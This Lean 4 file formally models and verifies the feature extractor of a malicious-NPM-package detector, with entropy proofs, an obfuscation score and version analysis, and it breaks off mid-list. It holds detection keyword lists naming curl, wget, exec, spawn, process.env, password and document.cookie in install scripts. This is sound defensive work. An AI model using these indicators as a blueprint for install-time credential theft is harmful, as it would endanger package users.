import Mathlib

/-!
# Verification of the NPM-package static feature extractor

A shallow embedding of the feature-extraction engine of
`Malicious-NPM-Package-Detection-Based-on-Machine-Learning`
(`src/Extractor/feature_extractor.py` and `src/feature_extractor.py`)
together with theorems settling the specification claims about it.

Python strings are modelled as `String`/`List Char`, Python dicts holding the
feature records as insertion-ordered association lists `List (String × Feat)`,
file contents as decoded strings (`read_file` is a lossy UTF-8 read), and the
two external parsing libraries (`packaging.version.Version` and the
tree-sitter JavaScript parser) as oracle functions supplied to the embedding.
-/

set_option maxHeartbeats 1000000

namespace NpmExtractor

/-! ## Generic string / list helpers (Python `in`, `str.count`, `splitlines`) -/

/-- Python substring test `needle in hay` on character lists. -/
def containsSub (needle : List Char) : List Char → Bool
  | [] => needle.isPrefixOf []
  | c :: rest => needle.isPrefixOf (c :: rest) || containsSub needle rest

/-- Python substring test `needle in hay` on strings. -/
def strContains (needle hay : String) : Bool :=
  containsSub needle.toList hay.toList

/-- Python `str.lower()` (restricted to the ASCII case folding the
source's patterns rely on). -/
def lowerStr (s : String) : String :=
  ⟨s.toList.map Char.toLower⟩

/-- Drop characters up to and including the first line break
(`\n`, `\r\n` or `\r`), the step function behind `str.splitlines`. -/
def dropAfterBreak : List Char → List Char
  | [] => []
  | c :: r =>
    if c = '\n' then r
    else if c = '\r' then
      match r with
      | '\n' :: r' => r'
      | _ => r
    else dropAfterBreak r

theorem dropAfterBreak_length_le (l : List Char) :
    (dropAfterBreak l).length ≤ l.length := by
  induction l with
  | nil => simp [dropAfterBreak]
  | cons c r ih =>
    simp only [dropAfterBreak]
    split
    · simp
    · split
      · split
        · simp_all; omega
        · simp
      · exact Nat.le_succ_of_le ih

theorem dropAfterBreak_length_lt (c : Char) (r : List Char) :
    (dropAfterBreak (c :: r)).length < (c :: r).length := by
  simp only [dropAfterBreak]
  split
  · simp
  · split
    · split
      · simp_all; omega
      · simp
    · exact Nat.lt_succ_of_le (dropAfterBreak_length_le r)

/-- Number of lines `str.splitlines` yields (the empty string has zero lines,
a trailing line break does not open a new line). -/
def countLines (l : List Char) : Nat :=
  match l with
  | [] => 0
  | c :: r => 1 + countLines (dropAfterBreak (c :: r))
termination_by l.length
decreasing_by
  exact dropAfterBreak_length_lt _ _

/-- Python `version_str.count('.')`. -/
def countDots (s : String) : Nat :=
  s.toList.count '.'

/-! ## Shannon entropy

`AdvancedFeatureExtractor.calculate_entropy`
(`src/Extractor/feature_extractor.py` lines 29-35, identically
`src/feature_extractor.py` lines 27-33):

    if not data: return 0
    counter = Counter(data)
    length = len(data)
    return -sum((count / length) * math.log2(count / length)
                for count in counter.values())

`Counter(data).values()` ranges over the multiplicities of the distinct
symbols of `data`, i.e. over `data.count c` for `c` in `data.toFinset`. -/

noncomputable def calculate_entropy (data : List Char) : ℝ :=
  if data = [] then 0
  else
    -∑ c in data.toFinset,
      ((data.count c : ℝ) / (data.length : ℝ)) *
        Real.logb 2 ((data.count c : ℝ) / (data.length : ℝ))

theorem calculate_entropy_nil : calculate_entropy [] = 0 := by
  simp [calculate_entropy]

theorem calculate_entropy_formula (data : List Char) :
    calculate_entropy data =
      -∑ c in data.toFinset,
        ((data.count c : ℝ) / (data.length : ℝ)) *
          Real.logb 2 ((data.count c : ℝ) / (data.length : ℝ)) := by
  by_cases h : data = []
  · subst h; simp [calculate_entropy]
  · simp [calculate_entropy, h]

theorem calculate_entropy_constant (n : ℕ) (c : Char) :
    calculate_entropy (List.replicate (n + 1) c) = 0 := by
  have hne : List.replicate (n + 1) c ≠ [] := by
    simp
  have hfin : (List.replicate (n + 1) c).toFinset = {c} := by
    simp [List.toFinset_replicate_of_ne_zero]
  rw [calculate_entropy, if_neg hne, hfin]
  rw [Finset.sum_singleton]
  have hcount : (List.replicate (n + 1) c).count c = n + 1 := by
    simp
  have hlen : (List.replicate (n + 1) c).length = n + 1 := by
    simp
  rw [hcount, hlen]
  have hdiv : ((n + 1 : ℕ) : ℝ) / ((n + 1 : ℕ) : ℝ) = 1 := by
    apply div_self
    exact_mod_cast Nat.succ_ne_zero n
  push_cast at hdiv ⊢
  rw [hdiv, Real.logb_one]
  ring

/-! ## Obfuscation score

`src/Extractor/feature_extractor.py` lines 379-383:

    features["obfuscation_score"] = min(
        (features["minified_ratio"] * 0.4 +
         features["base64_density"] * 0.3 +
         features["eval_density"] * 0.3) * 10, 1.0)
-/

noncomputable def obfuscation_score (minified_ratio base64_density eval_density : ℝ) : ℝ :=
  min ((minified_ratio * 0.4 + base64_density * 0.3 + eval_density * 0.3) * 10) 1.0

/-! ## Version analysis

`src/Extractor/feature_extractor.py`, `extract_version_analysis_features`
(lines 202-260).  The call `Version(version_str)` into the external
`packaging.version` library is modelled by an oracle
`vparse : String → Option SemVer`: `some v` when the parse succeeds and
`none` when it raises `InvalidVersion`.  `v.pre` is the truthiness of the
pre-release component. -/

structure SemVer where
  major : Nat
  minor : Nat
  micro : Nat
  pre : Bool

structure VersionFeatures where
  is_first_version : Nat
  has_other_versions_today : Nat
  is_rapid_update : Nat
  version_velocity : ℝ
  maintenance_score : ℝ
  time_between_updates : Nat
  update_type : Nat

/-- The `features` dict initialised at lines 204-212. -/
def versionDefaults : VersionFeatures :=
  { is_first_version := 1
    has_other_versions_today := 0
    is_rapid_update := 0
    version_velocity := 0
    maintenance_score := 0
    time_between_updates := 0
    update_type := 0 }

/-- Python `package_data.get('version', '0.0.0')` (line 215): the version string the
analyzer works on, given the parsed descriptor's optional `version` field. -/
def descriptorVersionString : Option (Option String) → String
  | some (some v) => v
  | some none => "0.0.0"
  | none => "0.0.0"

/-- Lines 214-258: semantic-version classification (in the `try` block, a
failed parse falls through to the defaults) followed by the sibling-directory
analysis guarded by `date_dir.exists()`.  `siblings` is the number of sibling
directories of the sample under its date directory, excluding the sample. -/
noncomputable def extract_version_analysis_features (vparse : String → Option SemVer)
    (version_str : String) (dateDirExists : Bool) (siblings : Nat) :
    VersionFeatures :=
  let v1 :=
    match vparse version_str with
    | none => versionDefaults
    | some version =>
      { versionDefaults with
        is_first_version :=
          if 0 < version.major ∧ version_str.startsWith "1.0.0" then 1 else 0
        update_type :=
          if version.pre then 4
          else if 0 < version.micro ∧ 2 ≤ countDots version_str then 3
          else if 0 < version.minor then 2
          else if 0 < version.major then 1
          else 0 }
  if dateDirExists then
    { v1 with
      has_other_versions_today := if 0 < siblings then 1 else 0
      is_rapid_update := if 2 ≤ siblings then 1 else 0
      version_velocity := min ((siblings : ℝ) / 10.0) 1.0
      maintenance_score := if 0 < siblings then 1.0 else 0.0
      time_between_updates := siblings }
  else v1

/-! ## Descriptor metadata of the root extractor

`src/feature_extractor.py`, `extract_basic_features`, metadata section
(lines 222-255).  A missing `package.json` and one that fails to parse
(`JSONDecodeError` / `UnicodeDecodeError`) take the two default branches,
which assign the same values, so both are modelled by `none`. -/

structure RootDescriptor where
  name : Option String
  version : Option String
  dependencies : List String
  devDependencies : List String
  scripts : List (String × String)

structure RootMetaFeatures where
  dependencies_count : Nat
  dev_dependencies_count : Nat
  scripts_count : Nat
  has_preinstall : Nat
  has_postinstall : Nat
  has_preuninstall : Nat
  package_version : String
  package_name : String

def rootBasicMetaFeatures : Option RootDescriptor → RootMetaFeatures
  | some d =>
    { dependencies_count := d.dependencies.length
      dev_dependencies_count := d.devDependencies.length
      scripts_count := d.scripts.length
      has_preinstall := if d.scripts.any (fun s => s.1 == "preinstall") then 1 else 0
      has_postinstall := if d.scripts.any (fun s => s.1 == "postinstall") then 1 else 0
      has_preuninstall := if d.scripts.any (fun s => s.1 == "preuninstall") then 1 else 0
      package_version := d.version.getD "1.0.0"
      package_name := d.name.getD "unknown" }
  | none =>
    { dependencies_count := 0
      dev_dependencies_count := 0
      scripts_count := 0
      has_preinstall := 0
      has_postinstall := 0
      has_preuninstall := 0
      package_version := "1.0.0"
      package_name := "unknown" }

/-! ## Sensitive-call classification

`src/feature_extractor.py`, `extract_sensitive_code_features`, the
`traverse` visitor (lines 80-103).  For each `call_expression` node whose
`function` child has text `func_name`, the `if/elif` chain at lines 85-98
increments at most one capability counter. -/

structure SCFeatures where
  system_command_usage : Nat
  file_access : Nat
  env_variable_access : Nat
  network_access : Nat
  crypto_usage : Nat
  data_encoding : Nat
  dynamic_code_generation : Nat

inductive Cap where
  | file_access
  | env_variable_access
  | system_command_usage
  | network_access
  | crypto_usage
  | dynamic_code_generation
  | data_encoding
deriving DecidableEq

/-- The textual condition each branch of the chain tests on `func_name`. -/
def capMatches : Cap → String → Bool
  | .file_access, n =>
    strContains "fs." n &&
      (strContains "read" n || strContains "write" n || strContains "unlink" n)
  | .env_variable_access, n => strContains "process.env" n
  | .system_command_usage, n => strContains "exec" n || strContains "spawn" n
  | .network_access, n =>
    strContains "http." n || strContains "https." n || strContains "fetch" n
  | .crypto_usage, n => strContains "crypto." n
  | .dynamic_code_generation, n =>
    strContains "eval" n || strContains "Function" n ||
      strContains "setTimeout" n || strContains "setInterval" n
  | .data_encoding, n =>
    strContains "encodeURIComponent" n || strContains "decodeURIComponent" n ||
      strContains "btoa" n || strContains "atob" n

/-- The order in which the `if/elif` chain tries the categories. -/
def capOrder : List Cap :=
  [.file_access, .env_variable_access, .system_command_usage, .network_access,
   .crypto_usage, .dynamic_code_generation, .data_encoding]

/-- Increment the counter of one category. -/
def capBump : Cap → SCFeatures → SCFeatures
  | .file_access, f => { f with file_access := f.file_access + 1 }
  | .env_variable_access, f => { f with env_variable_access := f.env_variable_access + 1 }
  | .system_command_usage, f => { f with system_command_usage := f.system_command_usage + 1 }
  | .network_access, f => { f with network_access := f.network_access + 1 }
  | .crypto_usage, f => { f with crypto_usage := f.crypto_usage + 1 }
  | .dynamic_code_generation, f => { f with dynamic_code_generation := f.dynamic_code_generation + 1 }
  | .data_encoding, f => { f with data_encoding := f.data_encoding + 1 }

/-- Lines 85-98: the update the visitor applies to the counters for one
call-expression node with invoked-target text `func_name`. -/
def traverseCall (features : SCFeatures) (func_name : String) : SCFeatures :=
  if capMatches .file_access func_name then capBump .file_access features
  else if capMatches .env_variable_access func_name then capBump .env_variable_access features
  else if capMatches .system_command_usage func_name then capBump .system_command_usage features
  else if capMatches .network_access func_name then capBump .network_access features
  else if capMatches .crypto_usage func_name then capBump .crypto_usage features
  else if capMatches .dynamic_code_generation func_name then capBump .dynamic_code_generation features
  else if capMatches .data_encoding func_name then capBump .data_encoding features
  else features

/-- Total of the seven capability counters. -/
def totalSC (f : SCFeatures) : Nat :=
  f.system_command_usage + f.file_access + f.env_variable_access +
    f.network_access + f.crypto_usage + f.data_encoding + f.dynamic_code_generation

/-! ## A model of the source's `re.findall` patterns

Every pattern the extractor counts with `len(re.findall(...))` is an ordered
alternation of branches, each branch a sequence of: a literal, a greedy
whitespace run `\s*` (always followed by a non-whitespace literal, so greedy
matching without backtracking is exact), or an ordered group of literal
alternatives.  Matching is leftmost, first-branch-first, and non-overlapping:
after a match the scan resumes past it, after a failure it advances one
character — exactly `re.findall` semantics for this pattern class. -/

inductive PatItem where
  | lit (s : List Char)
  | ws
  | alts (ss : List (List Char))

/-- Python's `\s` class. -/
def isPySpace (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\n' || c = '\r' || c = '\x0b' || c = '\x0c'

/-- Match one branch at the head of `hay`; return the number of characters
consumed. -/
def matchSeq : List PatItem → List Char → Option Nat
  | [], _ => some 0
  | .lit s :: rest, hay =>
    if s.isPrefixOf hay then (matchSeq rest (hay.drop s.length)).map (· + s.length)
    else none
  | .ws :: rest, hay =>
    let k := (hay.takeWhile isPySpace).length
    (matchSeq rest (hay.drop k)).map (· + k)
  | .alts ss :: rest, hay =>
    match ss.find? (fun s => s.isPrefixOf hay) with
    | some s => (matchSeq rest (hay.drop s.length)).map (· + s.length)
    | none => none

/-- Fueled scan: count non-overlapping matches of the first branch that
matches at each position.  The fuel is an upper bound on the number of scan
steps; `countMatches` supplies `hay.length`, which suffices because every
step consumes at least one character. -/
def scanCount (branches : List (List PatItem)) : Nat → List Char → Nat
  | 0, _ => 0
  | _, [] => 0
  | fuel + 1, c :: rest =>
    match branches.findSome? (fun b => matchSeq b (c :: rest)) with
    | some n => 1 + scanCount branches fuel (List.drop (n - 1) rest)
    | none => scanCount branches fuel rest

/-- Count `len(re.findall(pattern, content))` for an alternation-of-branches
pattern. -/
def countMatches (branches : List (List PatItem)) (content : List Char) : Nat :=
  scanCount branches content.length content

/-- Shorthand: a pattern that is an alternation of plain literals, such as
`curl|wget|fetch|http`. -/
def litAlts (ss : List String) : List (List PatItem) :=
  ss.map (fun s => [PatItem.lit s.toList])

/-- Count `len(re.findall(r'[A-Za-z0-9+/]{20,}={0,2}', content))`: at each
position take the maximal run of base64 characters; a run of at least 20
(plus up to two trailing `=`) is one match. -/
def isB64Char (c : Char) : Bool :=
  ('A' ≤ c && c ≤ 'Z') || ('a' ≤ c && c ≤ 'z') || ('0' ≤ c && c ≤ '9') ||
    c = '+' || c = '/'

def b64Scan : Nat → List Char → Nat
  | 0, _ => 0
  | _, [] => 0
  | fuel + 1, c :: rest =>
    if isB64Char c then
      let run := (c :: rest).takeWhile isB64Char
      if 20 ≤ run.length then
        let afterRun := (c :: rest).drop run.length
        let eqs := (afterRun.takeWhile (· = '=')).length
        let consumed := run.length + min eqs 2
        1 + b64Scan fuel (List.drop (consumed - 1) rest)
      else b64Scan fuel (List.drop (run.length - 1) rest)
    else b64Scan fuel rest

def countBase64 (content : List Char) : Nat :=
  b64Scan content.length content

/-- Count `len(re.findall(r'https?://[^\s"\']+', content))`. -/
def urlTailChar (c : Char) : Bool :=
  !(isPySpace c || c = '"' || c = '\'')

def urlMatch (hay : List Char) : Option Nat :=
  let afterHttp := "http".toList
  if afterHttp.isPrefixOf hay then
    let rest1 := hay.drop 4
    let (hdLen, rest2) :=
      match rest1 with
      | 's' :: r => (5, r)
      | r => (4, r)
    if "://".toList.isPrefixOf rest2 then
      let rest3 := rest2.drop 3
      let tail := (rest3.takeWhile urlTailChar).length
      if 0 < tail then some (hdLen + 3 + tail) else none
    else none
  else none

def urlScan : Nat → List Char → Nat
  | 0, _ => 0
  | _, [] => 0
  | fuel + 1, c :: rest =>
    match urlMatch (c :: rest) with
    | some n => 1 + urlScan fuel (List.drop (n - 1) rest)
    | none => urlScan fuel rest

def countUrl (content : List Char) : Nat :=
  urlScan content.length content

/-! ## Granular security patterns

`src/Extractor/feature_extractor.py`, `extract_granular_security_patterns`
(lines 54-106).  Field order matches the insertion order of the `features`
dict literal at lines 56-80. -/

structure SecPatterns where
  fs_read_count : Nat
  fs_write_count : Nat
  fs_delete_count : Nat
  http_request_count : Nat
  fetch_count : Nat
  socket_count : Nat
  exec_count : Nat
  spawn_count : Nat
  fork_count : Nat
  password_access : Nat
  cookie_access : Nat
  env_variable_access : Nat
  base64_pattern_count : Nat
  eval_usage_count : Nat

def extract_granular_security_patterns (content : String) : SecPatterns :=
  let cs := content.toList
  { fs_read_count := countMatches (litAlts ["fs.readFile", "readFileSync"]) cs
    fs_write_count := countMatches (litAlts ["fs.writeFile", "writeFileSync"]) cs
    fs_delete_count := countMatches (litAlts ["fs.unlink", "fs.rmdir", "fs.rm"]) cs
    http_request_count := countMatches (litAlts ["http.request", "https.request"]) cs
    fetch_count := countMatches
      [[PatItem.lit "fetch".toList, PatItem.ws, PatItem.lit "(".toList],
       [PatItem.lit "axios.".toList, PatItem.alts ["get".toList, "post".toList]]] cs
    socket_count := countMatches (litAlts ["net.Socket", "net.connect"]) cs
    exec_count := countMatches
      [[PatItem.lit "exec".toList, PatItem.ws, PatItem.lit "(".toList],
       [PatItem.lit "execSync".toList]] cs
    spawn_count := countMatches
      [[PatItem.lit "spawn".toList, PatItem.ws, PatItem.lit "(".toList],
       [PatItem.lit "spawnSync".toList]] cs
    fork_count := countMatches (litAlts ["child_process.fork"]) cs
    password_access := countMatches (litAlts ["password", "passwd"]) (lowerStr content).toList
    cookie_access := countMatches (litAlts ["document.cookie"]) cs
    env_variable_access := countMatches (litAlts ["process.env"]) cs
    base64_pattern_count := countBase64 cs
    eval_usage_count := countMatches
      [[PatItem.lit "eval".toList, PatItem.ws, PatItem.lit "(".toList]] cs }

/-! ## Install-script features

`src/Extractor/feature_extractor.py`, `extract_install_script_features`
(lines 262-301).  The function loads `package.json` itself; a missing file
leaves the zero-initialised dict untouched and a `json.load` failure takes
the `except` branch with the dict still zero-initialised — both are the
`none` case of the optional `scripts` map. -/

structure InstallFeatures where
  has_install_command : Nat
  base64_in_install_script : Nat
  domain_in_install_script : Nat
  network_in_install_script : Nat
  process_env_in_install_script : Nat
  file_ops_in_install_script : Nat
  shell_exec_in_install_script : Nat

def installZero : InstallFeatures :=
  { has_install_command := 0
    base64_in_install_script := 0
    domain_in_install_script := 0
    network_in_install_script := 0
    process_env_in_install_script := 0
    file_ops_in_install_script := 0
    shell_exec_in_install_script := 0 }

/-- Line 285: `any(keyword in script_name for keyword in
['install', 'preinstall', 'postinstall'])`. -/
def isInstallScriptName (script_name : String) : Bool :=
  strContains "install" script_name || strContains "preinstall" script_name ||
    strContains "postinstall" script_name

def extract_install_script_features :
    Option (List (String × String)) → InstallFeatures
  | none => installZero
  | some scripts =>
    let install_scripts :=
      (scripts.filter (fun s => isInstallScriptName s.1)).map (fun s => s.2)
    { has_install_command := if install_scripts.isEmpty then 0 else 1
      base64_in_install_script :=
        (install_scripts.map (fun c => countBase64 c.toList)).sum
      domain_in_install_script :=
        (install_scripts.map (fun c => countUrl c.toList)).sum
      network_in_install_script :=
        (install_scripts.map (fun c =>
          countMatches (litAlts ["curl", "wget", "fetch", "http"])
            (lowerStr c).toList)).sum
      process_env_in_install_script :=
        (install_scripts.map (fun c =>
          countMatches (litAlts ["process.env"]) c.toList)).sum
      file_ops_in_install_script :=
        (install_scripts.map (fun c =>
          countMatches (litAlts ["fs.", "readFile", "writeFile"]) c.toList)).sum
      shell_exec_in_install_script :=
        (install_scripts.map (fun c =>
          countMatches (litAlts ["exec", "spawn", "child_process"]) c.toList)).sum }

/-! ## Feature records as insertion-ordered dicts

Python dicts keep insertion order; assigning an existing key updates it in
place, a new key is appended.  A record value is a number, a string
(provenance fields, `package_type` etc.) or a bool (`has_node_modules`). -/

inductive Feat where
  | num (x : ℝ)
  | str (s : String)
  | bool (b : Bool)

abbrev FeatDict := List (String × Feat)

/-- Assignment `d[k] = v` on a Python dict. -/
def dictSet (k : String) (v : Feat) : FeatDict → FeatDict
  | [] => [(k, v)]
  | (k', v') :: rest =>
    if k = k' then (k', v) :: rest else (k', v') :: dictSet k v rest

/-- Merge `{**a, **b}`: start from `a`, assign every entry of `b` in order. -/
def dictMerge (a b : FeatDict) : FeatDict :=
  b.foldl (fun d kv => dictSet kv.1 kv.2 d) a

/-- The key list of a record, in emission order. -/
def dkeys (d : FeatDict) : List String :=
  d.map Prod.fst

/-! ## Advanced features

`src/Extractor/feature_extractor.py`, `extract_advanced_features`
(lines 303-385).  A walked file is its basename (the `file` loop variable,
used for the extension check) together with the decoded content
`read_file` returns.  The tree-sitter pass `extract_pii_patterns_ast` is an
external parser, modelled by the oracle `piiOf : content ↦ (password_access,
cookie_access)`.  Note that the local counter `minified_files` (line 322) is
never copied into `features["minified_files"]` (line 310), which therefore
stays `0`. -/

structure PFile where
  name : String
  relPath : String
  content : String
  size : Nat

structure AdvFeatures where
  max_entropy : ℝ
  avg_entropy : ℝ
  entropy_variance : ℝ
  minified_files : ℝ
  minified_ratio : ℝ
  obf_score : ℝ
  base64_density : ℝ
  eval_density : ℝ
  -- the 14 security-pattern keys exist in the dict only once a script file
  -- has been analyzed (lines 347-351 insert them on first use)
  securityKeysPresent : Bool
  fs_read_count : Nat
  fs_write_count : Nat
  fs_delete_count : Nat
  http_request_count : Nat
  fetch_count : Nat
  socket_count : Nat
  exec_count : Nat
  spawn_count : Nat
  fork_count : Nat
  password_access : Nat
  cookie_access : Nat
  env_variable_access : Nat
  base64_pattern_count : Nat
  eval_usage_count : Nat

def advFeaturesInit : AdvFeatures :=
  { max_entropy := 0, avg_entropy := 0, entropy_variance := 0
    minified_files := 0, minified_ratio := 0, obf_score := 0
    base64_density := 0, eval_density := 0
    securityKeysPresent := false
    fs_read_count := 0, fs_write_count := 0, fs_delete_count := 0
    http_request_count := 0, fetch_count := 0, socket_count := 0
    exec_count := 0, spawn_count := 0, fork_count := 0
    password_access := 0, cookie_access := 0, env_variable_access := 0
    base64_pattern_count := 0, eval_usage_count := 0 }

/-- The loop accumulators of `extract_advanced_features` (lines 319-324)
together with the growing `features` dict. -/
structure AdvAcc where
  feats : AdvFeatures
  entropies : List ℝ
  total_files_analyzed : Nat
  total_js_files : Nat
  minified_files_local : Nat
  total_base64_count : Nat
  total_eval_count : Nat

def advAccInit : AdvAcc :=
  { feats := advFeaturesInit, entropies := []
    total_files_analyzed := 0, total_js_files := 0, minified_files_local := 0
    total_base64_count := 0, total_eval_count := 0 }

/-- Check `file.endswith(('.js', '.ts', '.jsx', '.tsx'))` (line 342). -/
def isScriptFile (name : String) : Bool :=
  name.endsWith ".js" || name.endsWith ".ts" ||
    name.endsWith ".jsx" || name.endsWith ".tsx"

/-- Lines 346-360: add the granular security counts (insert-or-add, which
also marks the 14 keys present) and the tree-sitter PII counts into the
features dict. -/
def addSecurity (f : AdvFeatures) (s : SecPatterns) (pii : Nat × Nat) :
    AdvFeatures :=
  { f with
    securityKeysPresent := true
    fs_read_count := f.fs_read_count + s.fs_read_count
    fs_write_count := f.fs_write_count + s.fs_write_count
    fs_delete_count := f.fs_delete_count + s.fs_delete_count
    http_request_count := f.http_request_count + s.http_request_count
    fetch_count := f.fetch_count + s.fetch_count
    socket_count := f.socket_count + s.socket_count
    exec_count := f.exec_count + s.exec_count
    spawn_count := f.spawn_count + s.spawn_count
    fork_count := f.fork_count + s.fork_count
    password_access := f.password_access + s.password_access + pii.1
    cookie_access := f.cookie_access + s.cookie_access + pii.2
    env_variable_access := f.env_variable_access + s.env_variable_access
    base64_pattern_count := f.base64_pattern_count + s.base64_pattern_count
    eval_usage_count := f.eval_usage_count + s.eval_usage_count }

/-- The body of the per-file loop (lines 326-363).  Everything is guarded by
`if content and len(content) > 100:` (line 332); a file failing the guard
changes nothing. -/
noncomputable def advStep (piiOf : String → Nat × Nat) (acc : AdvAcc)
    (f : PFile) : AdvAcc :=
  let content := f.content
  if content ≠ "" ∧ 100 < content.length then
    let acc1 := { acc with
      entropies := acc.entropies ++ [calculate_entropy content.toList]
      total_files_analyzed := acc.total_files_analyzed + 1 }
    let acc2 :=
      if countLines content.toList < 5 ∧ 500 < content.length then
        { acc1 with minified_files_local := acc1.minified_files_local + 1 }
      else acc1
    if isScriptFile f.name then
      let sec := extract_granular_security_patterns content
      { acc2 with
        total_js_files := acc2.total_js_files + 1
        feats := addSecurity acc2.feats sec (piiOf content)
        total_base64_count := acc2.total_base64_count + sec.base64_pattern_count
        total_eval_count := acc2.total_eval_count + sec.eval_usage_count }
    else acc2
  else acc

/-- The features dict in emission order: the eight keys of the dict literal
(lines 305-317) followed by the security keys when they were inserted. -/
def advPairs (f : AdvFeatures) : FeatDict :=
  [("max_entropy", .num f.max_entropy),
   ("avg_entropy", .num f.avg_entropy),
   ("entropy_variance", .num f.entropy_variance),
   ("minified_files", .num f.minified_files),
   ("minified_ratio", .num f.minified_ratio),
   ("obfuscation_score", .num f.obf_score),
   ("base64_density", .num f.base64_density),
   ("eval_density", .num f.eval_density)] ++
  (if f.securityKeysPresent then
    [("fs_read_count", .num f.fs_read_count),
     ("fs_write_count", .num f.fs_write_count),
     ("fs_delete_count", .num f.fs_delete_count),
     ("http_request_count", .num f.http_request_count),
     ("fetch_count", .num f.fetch_count),
     ("socket_count", .num f.socket_count),
     ("exec_count", .num f.exec_count),
     ("spawn_count", .num f.spawn_count),
     ("fork_count", .num f.fork_count),
     ("password_access", .num f.password_access),
     ("cookie_access", .num f.cookie_access),
     ("env_variable_access", .num f.env_variable_access),
     ("base64_pattern_count", .num f.base64_pattern_count),
     ("eval_usage_count", .num f.eval_usage_count)]
  else [])

/-- Model of `extract_advanced_features` (lines 303-385): fold the per-file step over
the walked files, then the entropy statistics (lines 366-370), the densities
(lines 373-376) and the composite obfuscation score (lines 379-383). -/
noncomputable def extract_advanced_features (piiOf : String → Nat × Nat)
    (files : List PFile) : FeatDict :=
  let acc := files.foldl (advStep piiOf) advAccInit
  let f0 := acc.feats
  let f1 :=
    match acc.entropies with
    | [] => f0
    | e :: es =>
      let avg := (e :: es).sum / ((e :: es).length : ℝ)
      { f0 with
        max_entropy := es.foldl max e
        avg_entropy := avg
        entropy_variance :=
          if 1 < (e :: es).length then
            ((e :: es).map (fun x => (x - avg) ^ 2)).sum / ((e :: es).length : ℝ)
          else f0.entropy_variance }
  let f2 :=
    if 0 < acc.total_js_files then
      { f1 with
        minified_ratio := (acc.minified_files_local : ℝ) / (acc.total_js_files : ℝ)
        base64_density := (acc.total_base64_count : ℝ) / (acc.total_js_files : ℝ)
        eval_density := (acc.total_eval_count : ℝ) / (acc.total_js_files : ℝ) }
    else f1
  let f3 := { f2 with
    obf_score := obfuscation_score f2.minified_ratio f2.base64_density f2.eval_density }
  advPairs f3

/-! ## Basic features and the assembler

`src/Extractor/feature_extractor.py`, `extract_basic_features`
(lines 387-450), `_get_default_features` (lines 492-532) and
`extract_all_features` (lines 534-546). -/

/-- The parsed `package.json` of the Extractor pipeline.  `none` stands for
a missing file and for a `json.JSONDecodeError` alike: both leave
`package_data = {}`. -/
structure Descriptor where
  version : Option String
  dependencies : List String
  devDependencies : List String
  scripts : List (String × String)

/-- A package sample: the walked files, the descriptor, and the sibling
directories under the sample's date directory. -/
structure Package where
  files : List PFile
  descriptor : Option Descriptor
  dateDirExists : Bool
  siblings : Nat

/-- Python `Path(file).suffix.lower()`: the extension of the last path component,
from its last dot (none when the dot is absent or leading), lowercased. -/
def pathSuffix (p : String) : String :=
  let comp := ((p.toList.reverse.takeWhile (fun c => c ≠ '/')).reverse)
  let revTail := comp.reverse.takeWhile (fun c => c ≠ '.')
  if revTail.length + 1 < comp.length then
    lowerStr ⟨'.' :: revTail.reverse⟩
  else ""

/-- The list `self.suspicious_packages` (lines 26-27). -/
def suspicious_packages : List String :=
  ["request", "axios", "node-fetch", "fs-extra", "shelljs", "child_process",
   "exec", "spawn"]

/-- Model of `analyze_dependencies` (lines 147-166): count the dependencies whose
lowercased name contains a suspicious package name, and the total number of
declared dependencies. -/
def analyze_dependencies (deps devDeps : List String) : Nat × Nat :=
  (((deps.filter (fun dep =>
      suspicious_packages.any (fun s => strContains s (lowerStr dep)))).length),
   deps.length + devDeps.length)

/-- Key membership `'preinstall' in package_data.get('scripts', {})`. -/
def hasScriptKey (scripts : List (String × String)) (k : String) : Bool :=
  scripts.any (fun s => s.1 == k)

/-- The `features` dict `extract_basic_features` builds when no exception is
raised, in insertion order (lines 392-444).  The version-analysis features
are computed by `extract_version_analysis_features` on
`package_data.get('version', '0.0.0')`. -/
noncomputable def extract_basic_features_ok (vparse : String → Option SemVer)
    (pkg : Package) : FeatDict :=
  let files := pkg.files
  let scripts := match pkg.descriptor with
    | some d => d.scripts
    | none => []
  let depCounts := match pkg.descriptor with
    | some d => analyze_dependencies d.dependencies d.devDependencies
    | none => analyze_dependencies [] []
  let vf := extract_version_analysis_features vparse
    (descriptorVersionString (pkg.descriptor.map (fun d => d.version)))
    pkg.dateDirExists pkg.siblings
  [("file_count", .num files.length),
   ("total_size_kb", .num (((files.map (fun f => f.size)).sum : ℝ) / 1024)),
   ("has_node_modules",
     .bool (files.any (fun f => strContains "node_modules" f.relPath))),
   ("js_file_ratio",
     .num (((files.filter (fun f => pathSuffix f.relPath == ".js")).length : ℝ) /
       (max 1 files.length : ℕ))),
   ("dependencies_count", .num (match pkg.descriptor with
     | some d => (d.dependencies.length : ℝ)
     | none => 0)),
   ("scripts_count", .num (match pkg.descriptor with
     | some d => (d.scripts.length : ℝ)
     | none => 0)),
   ("has_preinstall", .num (if hasScriptKey scripts "preinstall" then 1 else 0)),
   ("has_postinstall", .num (if hasScriptKey scripts "postinstall" then 1 else 0)),
   ("has_install_script", .num (if hasScriptKey scripts "install" then 1 else 0)),
   ("has_readme",
     .num (if files.any (fun f => strContains "readme" (lowerStr f.relPath))
       then 1 else 0)),
   ("suspicious_dependencies_count", .num depCounts.1),
   ("total_dependencies_count", .num depCounts.2),
   ("js_files_in_root",
     .num ((files.filter (fun f =>
       f.relPath.endsWith ".js" && !strContains "/" f.relPath)).length)),
   ("hidden_files",
     .num ((files.filter (fun f => f.relPath.startsWith ".")).length)),
   ("max_file_size_kb",
     .num (match files with
       | [] => 0
       | _ => (((files.map (fun f => f.size)).foldl max 0 : ℕ) : ℝ) / 1024)),
   ("is_first_version", .num vf.is_first_version),
   ("has_other_versions_today", .num vf.has_other_versions_today),
   ("is_rapid_update", .num vf.is_rapid_update),
   ("version_velocity", .num vf.version_velocity),
   ("maintenance_score", .num vf.maintenance_score),
   ("time_between_updates", .num vf.time_between_updates),
   ("update_type", .num vf.update_type)]

/-- Model of `_get_default_features` (lines 492-532): the declared 52-key default
record substituted when `extract_basic_features` catches an exception. -/
def get_default_features : FeatDict :=
  [("file_count", .num 0), ("total_size_kb", .num 0), ("has_node_modules", .num 0),
   ("js_file_ratio", .num 0), ("js_files_in_root", .num 0), ("hidden_files", .num 0),
   ("max_file_size_kb", .num 0), ("dir_count", .num 0),
   ("dependencies_count", .num 0), ("scripts_count", .num 0), ("has_preinstall", .num 0),
   ("has_postinstall", .num 0), ("has_install_script", .num 0),
   ("suspicious_dependencies_count", .num 0), ("total_dependencies_count", .num 0),
   ("is_first_version", .num 1), ("has_other_versions_today", .num 0),
